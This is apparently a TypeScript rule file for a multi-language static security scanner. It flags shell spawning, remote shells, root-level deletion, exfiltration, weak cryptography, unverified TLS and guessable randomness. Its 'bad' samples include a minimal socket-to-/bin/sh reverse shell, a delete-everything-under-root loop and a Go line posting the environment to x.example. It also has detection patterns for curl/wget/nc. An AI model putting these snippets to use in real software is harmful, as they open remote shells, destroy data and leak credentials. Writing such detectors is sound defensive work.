import type { Rule } from '../rule.ts';
import { FILES, HARM } from './kinds.ts';

/** What the languages of the tables have in common: one rule for each danger, with the names of all of them. */

const TABLES = ['cpp', 'c', 'go', 'java', 'php', 'ruby', 'rust'] as const;
const NETWORK = ['c-network', 'go-network', 'java-network', 'php-network', 'ruby-network', 'rust-network'];
const COMPUTED_COMMAND = ['c-shell', 'go-shell', 'java-shell', 'php-shell', 'ruby-shell'];
const REMOVES = ['c-files', 'go-files', 'java-files', 'php-files', 'ruby-files', 'rust-files'];
const COMMANDS = [
  '{system,popen,execl,execle,execlp,execv,execve,execvp,posix_spawn,posix_spawnp,proc_open,shell_exec,exec,spawn}',
  'os/exec.{Command,CommandContext}',
  'syscall.Exec',
  'ProcessBuilder',
  'Runtime.getRuntime().exec',
  'IO.popen',
  'PTY.spawn',
  '{std,tokio}.process.Command.new',
];
const SHELL = /^(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh(?: -i)?(?:$| )|^cmd(?:\.exe)?$|^powershell/;
const ROOT = /^(?:\/|~|\/(?:etc|usr|home|var|bin|lib|opt|root|boot)(?:\/\*{0,2}|\/[\w.*-]+)?|[A-Z]:[\\/]?)$/;
const HASHED =
  'MD5 and SHA-1 can be forged: two texts with the same hash are computed in seconds, and passwords are guessed.';

export const COMMON: readonly Rule[] = [
  {
    id: 'shell-started',
    languages: TABLES,
    severity: 'medium',
    confidence: 'medium',
    category: 'code-execution',
    cwe: 78,
    message: '{} starts a shell',
    why: 'A shell does whatever it is told, by its input or by whoever is connected to it.',
    remedy: 'Start the program itself, with a fixed list of arguments.',
    match: { call: COMMANDS, when: [{ arg: 'any', is: { matches: SHELL } }] },
    bad: 'int main(void) { execl("/bin/sh", "sh", 0); }',
    good: 'int main(void) { execl("/bin/ls", "ls", 0); }',
  },
  {
    id: 'remote-shell',
    languages: TABLES,
    severity: 'critical',
    confidence: 'medium',
    ...HARM,
    category: 'network',
    cwe: 506,
    message: 'the program opens the network and starts a shell or a computed command',
    match: { together: [NETWORK, ['shell-started', ...COMPUTED_COMMAND]] },
    bad: 'int main(void) { int s = socket(2, 1, 0); dup2(s, 0); execl("/bin/sh", "sh", 0); }',
    good: 'int main(void) { int s = socket(2, 1, 0); send(s, "a", 1, 0); }',
  },
  {
    id: 'remove-system',
    languages: TABLES,
    severity: 'critical',
    confidence: 'high',
    ...HARM,
    category: 'file-system',
    cwe: 73,
    message: '{} removes parts of the system or of its users',
    match: [
      {
        call: [
          'std.filesystem.{remove,remove_all}',
          'os.{Remove,RemoveAll}',
          'FileUtils.{rm_r,rm_rf,remove_dir,remove_entry}',
          '{std,tokio}.fs.remove_dir_all',
        ],
        when: [{ arg: 0, is: { matches: ROOT } }],
      },
      { together: [['all-files'], REMOVES] },
    ],
    bad: '#include <filesystem>\nint main() { for (auto &e : std::filesystem::recursive_directory_iterator("/")) std::filesystem::remove(e); }',
    good: '#include <filesystem>\nint main() { std::filesystem::remove_all("build"); }',
  },
  {
    id: 'all-files',
    languages: TABLES,
    severity: 'medium',
    confidence: 'medium',
    ...FILES,
    message: '{} visits all files of the machine or of its users',
    why: 'No program needs all of them; those that delete, encrypt or steal do.',
    remedy: 'Start at the working directory.',
    match: {
      call: [
        '{nftw,ftw,opendir,scandir,glob}',
        'std.filesystem.{directory_iterator,recursive_directory_iterator}',
        'path/filepath.{Walk,WalkDir,Glob}',
        'os.ReadDir',
        'Dir.{glob,children,entries,each_child}',
        'Find.find',
        'recursivedirectoryiterator',
        'std.fs.read_dir',
        'walkdir.WalkDir.new',
        'java.nio.file.Files.{walk,find,list,walkFileTree}',
      ],
      when: [{ arg: 0, is: { matches: /^(?:\/|~|\/(?:home|root|etc)\/?|[A-Z]:[\\/]?)(?:\*{0,2}\/?)*$/ } }],
    },
    bad: 'int main(void) { opendir("/"); }',
    good: 'int main(void) { opendir("."); }',
  },
  {
    id: 'exfiltration',
    languages: ['go', 'c', 'cpp', 'java', 'php', 'ruby', 'rust', 'bash'],
    severity: 'critical',
    confidence: 'medium',
    category: 'abuse',
    cwe: 200,
    message: '{} sends the environment or a file of keys away',
    why: 'Credentials leave the machine.',
    remedy: 'Remove it.',
    match: [
      {
        call: [
          'net/http.{Post,PostForm,NewRequest}',
          'net.Dial().Write',
          'Net.HTTP.*',
          'mail',
          'curl_setopt',
        ],
        when: [{ arg: 'any', is: 'secret' }],
      },
      { together: [['credential-file'], NETWORK] },
      { together: [['bash-credentials'], ['bash-upload']] },
      {
        call: ['|'],
        when: [
          { arg: 'any', is: { nameMatches: /^(?:env|printenv|set|export|history)\(\)$/ } },
          { arg: 'any', is: { nameMatches: /^(?:curl|wget|nc|ncat|netcat)\(\)$/ } },
        ],
      },
    ],
    bad: 'package main\n\nimport ("net/http"; "os"; "strings")\n\nfunc main() { http.Post("http://x.example", "a", strings.NewReader(strings.Join(os.Environ(), ""))) }',
    good: 'package main\n\nimport "os"\n\nfunc main() { println(len(os.Environ())) }',
  },
  {
    id: 'weak-hash',
    languages: ['go', 'java', 'php', 'ruby', 'rust'],
    severity: 'low',
    confidence: 'medium',
    category: 'cryptography',
    cwe: 327,
    message: '{} is a broken hash',
    why: HASHED,
    remedy: 'Use SHA-256; for passwords, bcrypt, scrypt or Argon2.',
    match: [
      {
        call: [
          'crypto/{md5,sha1}.{New,Sum}',
          '{md5,sha1,md5_file,sha1_file}',
          'Digest.{MD5,SHA1}.{new,digest,hexdigest,base64digest}',
          'md5.compute',
          '{md5,sha1}.{Md5,Sha1}.{new,digest}',
        ],
      },
      {
        call: ['java.security.MessageDigest.getInstance', 'hash', 'hash_init', 'OpenSSL.Digest.new'],
        when: [{ arg: 0, is: { matches: /^(?:md[245]|sha-?1)$/i } }],
      },
    ],
    bad: 'package main\n\nimport "crypto/md5"\n\nfunc main() { md5.Sum(data) }',
    good: 'package main\n\nimport "crypto/sha256"\n\nfunc main() { sha256.Sum256(data) }',
  },
  {
    id: 'weak-cipher',
    languages: ['go', 'java', 'php', 'ruby'],
    severity: 'medium',
    confidence: 'medium',
    category: 'cryptography',
    cwe: 327,
    message: '{} encrypts with a broken cipher, or block by block',
    why: 'DES, RC4 and their like are broken; in ECB equal blocks stay equal.',
    remedy: 'Use AES in GCM, or ChaCha20-Poly1305.',
    match: [
      { call: ['crypto/des.{NewCipher,NewTripleDESCipher}', 'crypto/rc4.NewCipher', 'mcrypt_encrypt'] },
      {
        call: [
          'javax.crypto.{Cipher,KeyGenerator}.getInstance',
          'openssl_{encrypt,decrypt}',
          'OpenSSL.Cipher.new',
        ],
        when: [
          {
            arg: 'any',
            is: { matches: /^(?:des|desede|rc[24]|arcfour|blowfish|bf-)\b|\bdes\b|\becb\b|^AES$/i },
          },
        ],
      },
    ],
    bad: 'package main\n\nimport "crypto/des"\n\nfunc main() { des.NewCipher(key) }',
    good: 'package main\n\nimport "crypto/aes"\n\nfunc main() { aes.NewCipher(key) }',
  },
  {
    id: 'tls-unverified',
    languages: TABLES,
    severity: 'medium',
    confidence: 'high',
    category: 'cryptography',
    cwe: 295,
    message: 'certificates are not verified',
    why: 'Anybody on the way can answer in place of the server.',
    remedy: 'Leave verification on; give the certificate of your own authority, if you have one.',
    match: [
      { assign: /^InsecureSkipVerify$/, when: [{ arg: 'value', is: 'true' }] },
      { read: ['OpenSSL.SSL.VERIFY_NONE'] },
      {
        call: ['curl_setopt', 'curl_easy_setopt'],
        when: [
          { arg: 1, is: { nameMatches: /^curlopt_ssl_verify(?:peer|host)$/i } },
          { arg: 2, is: ['false', { matches: /^0$/ }] },
        ],
      },
      {
        call: ['*.{danger_accept_invalid_certs,danger_accept_invalid_hostnames}'],
        when: [{ arg: 0, is: 'true' }],
      },
    ],
    bad: 'int main(void) { curl_easy_setopt(h, CURLOPT_SSL_VERIFYPEER, 0); }',
    good: 'int main(void) { curl_easy_setopt(h, CURLOPT_SSL_VERIFYPEER, 1); }',
  },
  {
    id: 'weak-random',
    languages: ['go', 'java', 'php', 'ruby', 'c', 'cpp'],
    severity: 'medium',
    confidence: 'medium',
    category: 'cryptography',
    cwe: 338,
    message: '{} makes a secret that can be guessed',
    why: 'Whoever sees some of its numbers can compute the next.',
    remedy: 'Use the generator of the operating system: crypto/rand, SecureRandom, random_bytes, getrandom.',
    match: { shape: 'random-secret' },
    bad: 'package main\n\nimport "math/rand"\n\nfunc main() { token := rand.Int63(); print(token) }',
    good: 'package main\n\nimport "math/rand"\n\nfunc main() { dice := rand.Intn(6); print(dice) }',
  },
];
